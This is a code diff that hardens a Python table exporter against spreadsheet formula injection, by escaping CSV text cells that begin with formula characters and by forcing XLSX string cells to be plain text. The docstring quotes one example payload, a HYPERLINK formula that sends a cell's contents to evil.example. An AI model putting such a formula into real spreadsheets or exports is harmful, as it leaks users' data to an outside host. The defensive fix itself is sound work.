@@ -13,6 +13,13 @@ An ``ExportTable`` is a DataFrame plus a kind per column:
 
 CSV is UTF-8 with a byte-order mark, so Excel shows Chinese text correctly; empty cells
 are missing values.
+
+Formula injection: a name such as ``=HYPERLINK("http://evil.example/?d="&B2,"x")`` must
+never run in the reader's spreadsheet. XLSX writes every text value as a string cell
+(never a formula or an error code), its text unchanged. CSV carries no types, so a
+text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
+leading ``'`` (OWASP's advice), which Excel hides; numbers, dates and money are never
+touched. JSON is for scripts and keeps every value as it is.
 """
 
 from __future__ import annotations
@@ -34,6 +41,7 @@ DATE_FIELDS = {"date", "created_on", "expected_close", "closed_on", "due", "hire
                "review_on", "left_on", "start", "end", "last_purchase_before_start",
                "last_purchase_to_date"}
 TIMESTAMP_FIELDS = {"at", "created_at", "done_at", "closed_at"}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # a spreadsheet may evaluate these
 
 
 @dataclass
@@ -147,10 +155,16 @@ def to_csv(table: ExportTable) -> bytes:
             else orjson.dumps(value).decode() if kind == "json"
             else ("true" if value else "false") if kind == "bool"
             else repr(value) if isinstance(value, float)
+            else _inert(value) if kind == "text"
             else value
             for value, kind in zip(row, kinds, strict=True)
         ])
     return buffer.getvalue().encode("utf-8-sig")
+
+
+def _inert(text: str) -> str:
+    """CSV text a spreadsheet shows and never evaluates (module docstring)."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
 def to_json(table: ExportTable) -> bytes:
@@ -193,6 +207,8 @@ def to_xlsx(table: ExportTable) -> bytes:
         for _, column, kind in columns:
             value = _xlsx_value(sources[column][i], kind, table.currency)
             cell = WriteOnlyCell(sheet, value=value)
+            if isinstance(value, str):
+                cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error
             if kind in formats and value is not None:
                 cell.number_format = formats[kind]
             row.append(cell)
